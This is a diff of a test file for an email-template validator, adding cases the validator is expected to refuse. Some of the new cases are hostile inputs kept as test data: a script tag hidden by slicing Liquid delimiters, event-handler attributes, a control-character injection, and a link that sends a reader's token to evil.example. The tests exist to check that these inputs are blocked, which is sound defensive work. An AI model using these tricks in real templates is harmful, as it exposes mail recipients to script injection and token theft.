@@ -37,7 +37,7 @@ test('one with a fault is refused, and the one before it stays in use', async ()
 })
 
 test.each([
-  ['<mj-column>', '<mj-column onload="x()">', 6, /onload is illegal/],
+  ['<mj-column>', '<mj-column onload="x()">', 6, /The attribute onload/],
   ['{{ period }}', '{{ perod }}', 9, /undefined variable: perod/],
   ['{{ period }}', '{{ period | raw }}', 9, /undefined filter: raw/],
   ['padding="32px 0"', 'paddin="32px 0"', 5, /Attribute paddin is illegal/],
@@ -75,7 +75,28 @@ test.each([
   ['</h1>', '', 8, /<h1> is not closed/],
   ['{{ period }}', '{% shown nobody %}', 9, /undefined variable: nobody/],
   ['{{ period }}', "{% include 'entry' %}", undefined, /In “entry”, line \d+: undefined variable/],
-  ["{% include 'footer' %}", '', undefined, /no link to leave/],
+  ["{% include 'footer' %}", '', undefined, /no postal address/],
+  [
+    '<p>',
+    `{{ "}} {% " | slice: 0, 0 }}<script>alert(1)</script>{{ " %} {{ " | slice: 0, 0 }}<p>`,
+    9,
+    /<script> may not stand/,
+  ],
+  ['<p>', '\u0002#unless dated\u0003<p>', 9, /control character/],
+  [
+    '{{ period }}',
+    `<a href="https://evil.example/?u={{ links.adjust }}{% own 'adjust' %}">Topics</a>`,
+    undefined,
+    /token stands in an address that is not ours/,
+  ],
+  ['{{ period }}', '<mj-spacer onclick="x()">a</mj-spacer>', 9, /The attribute onclick/],
+  ['{{ period }}', '<mj-spacer>a</mj-spacer>', undefined, /The mail holds <mj-spacer>/],
+  [
+    '{{ period }}',
+    '{% shown flags.dated %}a{% notshown x %}b{% notshown x %}c{% endshown x %}',
+    undefined,
+    /two alternatives|undefined variable/,
+  ],
   ['{% own section.count %}', "{% own 'nobody' %}", undefined, /names nobody, which no reader has/],
   ['{% shown entry.guard %}', '', undefined, /not opened as often/],
 ])('where %j is %j it is refused, in line %s', async (part, by, line, words) => {
